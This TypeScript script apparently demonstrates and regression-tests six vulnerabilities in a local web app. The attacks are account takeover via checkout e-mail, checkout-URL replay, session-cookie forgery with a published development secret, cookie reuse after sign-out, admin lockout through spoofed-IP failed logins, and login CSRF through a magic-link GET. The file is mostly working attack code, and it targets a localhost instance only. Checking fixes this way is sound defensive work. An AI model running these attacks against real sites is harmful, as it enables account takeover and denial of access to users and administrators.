// Only HTTP (and the outbox through the database), so the same script shows the before and after.
import { createHmac } from 'node:crypto';
import pg from 'pg';
import { openedText } from '../src/testing/sent-mail.ts';
import { Browser as BrowserAt, buy } from './lib/replay-browser.ts';

// The outbox keeps sign-in links sealed (src/server/mail/sealed.ts); the legitimate recipient's
// steps open them with the local preview's key, as the outbox does when it sends them.
process.env.NOVAREACH_LOCAL_RUN ??= 'preview';

const [base = 'http://localhost:4500', dbUrl = 'postgres://postgres@localhost:5500/postgres'] =
  process.argv.slice(2);

class Browser extends BrowserAt {
  constructor(ip?: string) {
    super(base, ip);
  }
}

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- either version's dashboard answer
const seen = (dashboard: any) =>
  dashboard?.client
    ? `${dashboard.orders.length} order(s) of ${dashboard.client.email || '(no e-mail)'}`
    : 'signed out';

const db = new pg.Client({ connectionString: dbUrl });
await db.connect();
const stamp = Date.now();
const victimEmail = `victim.${stamp}@example.com`;

const victim = new Browser();
const bought = await buy(victim, victimEmail, 'Victor Victim');
const victimOrder = bought.lookup.json.order.id as number;
await victim.req('/api/onboarding/business-info', {
  json: {
    orderId: victimOrder,
    data: {
      businessName: 'Victim Bakery',
      industry: 'Food',
      contactName: 'Victor Victim',
      email: victimEmail,
      phone: '555-0100',
      description: 'A secret bakery business plan.',
    },
  },
});
// A proven victim: they used the sign-in link from their confirmation e-mail.
const { rows } = await db.query(
  `select text, secrets from email_outbox where "to" ilike $1 and kind = 'order-confirmation' order by id desc limit 1`,
  [victimEmail],
);
const victimToken = /token=([\w-]+)/.exec(rows[0] ? openedText(rows[0]) : '')?.[1] ?? '';
await victim.req('/api/auth/magic', { json: { token: victimToken } });

console.log('1. Account takeover by typing the victim’s e-mail at checkout');
const mallory = new Browser();
const attack = await buy(mallory, victimEmail.toUpperCase(), 'Mallory');
console.log(
  `   lookup ${attack.lookup.status}, cookies set: ${attack.lookup.setCookie.join(', ') || 'none'}`,
);
console.log(`   GET /api/dashboard → ${seen((await mallory.req('/api/dashboard')).json)}`);
const state = await mallory.req(`/api/onboarding/state/${victimOrder}`);
console.log(
  `   GET /api/onboarding/state/${victimOrder} (the victim's order) → ${state.status}${state.json?.form?.businessInfo ? ` with "${state.json.form.businessInfo.description}"` : ''}`,
);
const mock = new Browser();
await mock.req('/api/test/create-mock-order', {
  json: { productId: 'starter', customerEmail: victimEmail },
});
console.log(
  `   test endpoint: POST /api/test/create-mock-order → dashboard: ${seen((await mock.req('/api/dashboard')).json)}`,
);
const mockState = await mock.req(`/api/onboarding/state/${victimOrder}`);
console.log(`   test endpoint: the victim's onboarding → ${mockState.status}`);

console.log('2. The success URL opened in another browser');
const stranger = new Browser();
const replay = await stranger.req(`/api/checkout-session/${bought.session}`);
console.log(
  `   lookup ${replay.status}, cookies set: ${replay.setCookie.join(', ') || 'none'}, name/e-mail shown: ${replay.json.order.customerName || '—'} / ${replay.json.order.customerEmail || '—'}`,
);
console.log(`   GET /api/dashboard → ${seen((await stranger.req('/api/dashboard')).json)}`);

console.log('3. A cookie forged with the published development secret');
const [client] = (await db.query('select id from clients where email = $1', [victimEmail])).rows;
const body = Buffer.from(JSON.stringify({ c: client.id, e: 9_999_999_999 })).toString('base64url');
const signature = createHmac('sha256', 'local-development-session-secret-not-for-production')
  .update(body)
  .digest('base64url');
const forger = new Browser();
forger.jar.set('__Host-client_session', `${body}.${signature}`);
console.log(`   GET /api/dashboard → ${seen((await forger.req('/api/dashboard')).json)}`);

console.log('4. A copy of the cookie taken before sign-out');
const copy = new Browser();
copy.jar = new Map(victim.jar);
await victim.req('/api/auth/signout', { method: 'POST' });
console.log(
  `   after sign-out, the copy: GET /api/dashboard → ${seen((await copy.req('/api/dashboard')).json)}`,
);

console.log('5. Locking the admin out with wrong passwords from other addresses');
const statuses: number[] = [];
for (let i = 0; i < 6; i++) {
  const bot = new Browser(`203.0.113.${i + 1}`);
  statuses.push(
    (
      await bot.req('/api/admin/login', {
        json: { username: 'owner', password: `wrong-${i}-password` },
      })
    ).status,
  );
}
const owner = new Browser('192.0.2.77');
const ownerLogin = await owner.req('/api/admin/login', {
  json: { username: 'owner', password: 'correct-horse-battery-staple' },
});
console.log(
  `   6 wrong passwords from 6 addresses: ${statuses.join(' ')}; then the owner from a clean address: ${ownerLogin.status}`,
);

console.log('6. Login CSRF: a planted GET link with a valid token');
const target = new Browser();
await buy(target, `csrf.${stamp}@example.com`, 'Mallory Again');
const [mail] = (
  await db.query(
    `select text, secrets from email_outbox where "to" = $1 order by id desc limit 1`,
    [`csrf.${stamp}@example.com`],
  )
).rows;
const token = /token=([\w-]+)/.exec(openedText(mail))![1];
const victim2 = new Browser();
const planted = await victim2.req(`/api/auth/magic?token=${token}`);
console.log(
  `   GET /api/auth/magic?token=… → ${planted.status}, cookies set: ${planted.setCookie.join(', ') || 'none'}; dashboard: ${seen((await victim2.req('/api/dashboard')).json)}`,
);
await db.end();
